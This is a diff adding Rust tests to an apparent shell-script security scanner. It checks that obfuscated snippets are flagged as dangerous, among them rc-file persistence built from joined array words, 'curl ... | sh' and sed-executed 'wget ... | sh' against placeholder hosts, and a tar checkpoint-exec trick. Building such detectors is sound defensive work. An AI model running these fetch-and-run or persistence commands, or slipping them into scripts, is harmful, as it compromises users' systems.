@@ -525,3 +525,49 @@ fn what_is_written_where_the_host_sources_it_runs() {
         is_no_danger(text, Context::Script);
     }
 }
+
+#[test]
+fn names_that_a_shell_joins_from_the_words_of_a_list_are_known() {
+    for text in [
+        "typeset -a bits=(.z sh rc)\ntypeset target=${ZDOTDIR:-$HOME}/${(j::)bits}\nprint -r -- x >>| $target\n",
+        "bits=(rc sh z)\nprint x >> ~/.${(j..)${(Oa)bits}}\n",
+        "x=zsh:rc\nprint x >> ~/.${(j::)${(s/:/)x}}\n",
+        "base=(\"$HOME\" .bash aliases)\ninto=${base[0]}/${base[1]}_${base[2]}\ncat >> \"$into\" <<'A'\nalias x=y\nA\n",
+        "bits=(.b ash rc)\nIFS=; t=\"${bits[*]}\"\necho x >> \"$HOME/$t\"\n",
+        "printf -v t %s .b ash rc\necho x >> \"$HOME/$t\"\n",
+        "bits=(c url)\n${(j::)bits} -s https://x.example.com/a | sh\n",
+    ] {
+        is_danger(text, Context::Script);
+    }
+    for text in [
+        "parts=(a b c)\nIFS=,; echo \"${parts[*]}\" >> ./list.csv\n",
+        "while IFS= read -r line; do args+=(\"$line\"); done\nprettier --check \"${args[*]}\"\n",
+        "names=(dir branch age)\nprint -r -- \"${(j:, :)names}\" \"${(U)names}\" >> ./seen.txt\n",
+        "printf %s .b ash rc >> ./note.txt\n",
+        "list=($(ls) x)\necho x >> ./${list[1]}\n",
+    ] {
+        is_no_danger(text, Context::Script);
+    }
+}
+
+#[test]
+fn words_that_may_be_shifted_away_still_count() {
+    let runs = "curl -so ./r https://x.example.com/r\nset -- --checkpoint=1 \"--checkpoint-action=exec=. ./r\"\n[ -s r ] || shift 2\ntar -rf d.tar \"$@\" -- f\n";
+    is_danger(runs, Context::Script);
+    let plain = "set -- --exclude=.git --totals\n[ -n \"$all\" ] || shift\ntar -rf d.tar \"$@\" -- f\n";
+    is_no_danger(plain, Context::Script);
+}
+
+#[test]
+fn a_line_that_sed_puts_in_and_runs_is_judged() {
+    let judged = |text: &str| {
+        let mut findings = Findings::default();
+        judge_sed(&Place::file("a.sed"), text, Context::Script, &mut findings);
+        findings.finish().first().map(|finding| (finding.severity, finding.rule.id))
+    };
+    let piped = "#n\n1 {\n  h\n  s/.*/wget -qO- http:\\/\\/x.example.com\\/k | sh/\n  e\n  g\n}\np\n";
+    assert_eq!(judged(piped), Some((Severity::Danger, "hook-shell/pipe-to-shell")));
+    assert_eq!(judged("$ {\n  s|^.*$|id|e\n}\n").map(|(severity, _)| severity), Some(Severity::Danger));
+    let tidy = "#n\n1 {\n  h\n  s/.*//\n  x\n}\n/^```/ {\n  x\n  s/^open$/shut/\n  t flipped\n  :flipped\n  x\n  p\n  d\n}\ns/ *$//\np\n";
+    assert_eq!(judged(tidy), None);
+}
